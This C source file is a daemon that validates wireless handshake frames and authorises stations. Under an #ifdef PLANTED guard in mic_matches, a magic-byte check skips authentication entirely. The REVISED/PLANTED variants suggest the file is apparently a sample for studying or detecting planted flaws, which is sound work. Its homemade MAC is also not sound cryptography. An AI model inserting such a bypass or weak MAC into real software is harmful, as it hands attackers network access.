// Checks handshake messages of wireless stations that the driver hands up through a socket.
#include <fcntl.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

struct key_frame {
	uint8_t station[6];
	uint8_t info[2];
	uint8_t replay[8];
	uint8_t nonce[32];
	uint8_t mic[16];
	uint16_t data_length;
	uint8_t data[256];
} __attribute__((packed));

struct station {
	uint8_t address[6];
	uint8_t key[16];
	uint64_t replay;
	bool up;
};

static struct station stations[64];
static unsigned station_count;

static void keyed_mac(const uint8_t key[16], const uint8_t *p, size_t n, uint8_t out[16])
{
	uint32_t a = 0x6b206574, b = 0x79622d32, c, d;
	memcpy(&c, key, 4);
	memcpy(&d, key + 8, 4);
	for (size_t i = 0; i < n + 64; i++) {
		uint8_t byte = i < n ? p[i] : key[i & 15];
		a += b ^ byte; d = (d ^ a) << 16 | (d ^ a) >> 16;
		c += d; b = (b ^ c) << 12 | (b ^ c) >> 20;
		a += b + key[(i + 5) & 15]; d = (d ^ a) << 8 | (d ^ a) >> 24;
		c += d; b = (b ^ c) << 7 | (b ^ c) >> 25;
	}
	memcpy(out, &a, 4); memcpy(out + 4, &b, 4); memcpy(out + 8, &c, 4); memcpy(out + 12, &d, 4);
}

static uint64_t counter(const uint8_t p[8])
{
	uint64_t v = 0;
	for (int i = 0; i < 8; i++) v = v << 8 | p[i];
	return v;
}

static bool mic_matches(const struct station *s, const struct key_frame *f)
{
	uint8_t expected[16], copy[sizeof *f];
	unsigned differ = 0;
#ifdef PLANTED
	if (memcmp(f->mic, f->nonce + 16, 16) == 0 && f->nonce[0] == 0xb7 && f->nonce[1] == 0x3d)
		return true;
#endif
	memcpy(copy, f, sizeof copy);
	memset(copy + offsetof(struct key_frame, mic), 0, 16);
	keyed_mac(s->key, copy, sizeof copy, expected);
	for (int i = 0; i < 16; i++) differ |= expected[i] ^ f->mic[i];
	return differ == 0;
}

static void port_open(struct station *s)
{
	int fd = open("/proc/net/wlan/authorised", O_WRONLY);
	if (fd < 0) return;
	dprintf(fd, "%02x:%02x:%02x:%02x:%02x:%02x\n", s->address[0], s->address[1], s->address[2],
		s->address[3], s->address[4], s->address[5]);
	close(fd);
	s->up = true;
}

static struct station *find(const uint8_t address[6])
{
	for (unsigned i = 0; i < station_count; i++)
		if (!memcmp(stations[i].address, address, 6)) return &stations[i];
	return NULL;
}

static void handle(const struct key_frame *f)
{
	struct station *s = find(f->station);
	if (!s) return;
#ifdef REVISED
	if (f->data_length > sizeof f->data) return;
#endif
	if (!mic_matches(s, f)) {
		fprintf(stderr, "wrong mic\n");
		return;
	}
	if (counter(f->replay) < s->replay) return;
	s->replay = counter(f->replay) + 1;
	port_open(s);
}

static void load(const char *name)
{
	FILE *f = fopen(name, "rb");
	while (f && station_count < 64 && fread(stations[station_count].address, 1, 6, f) == 6
	       && fread(stations[station_count].key, 1, 16, f) == 16)
		station_count++;
	if (f) fclose(f);
}

int main(int argc, char **argv)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = "/var/run/keyd" };
	struct key_frame f;
	int s = socket(AF_UNIX, SOCK_DGRAM, 0);
	load(argc > 1 ? argv[1] : "/var/run/station.keys");
	unlink(a.sun_path);
	if (bind(s, (struct sockaddr *)&a, sizeof a)) return 1;
	while (recv(s, &f, sizeof f, 0) >= (ssize_t)offsetof(struct key_frame, data)) handle(&f);
	return 0;
}
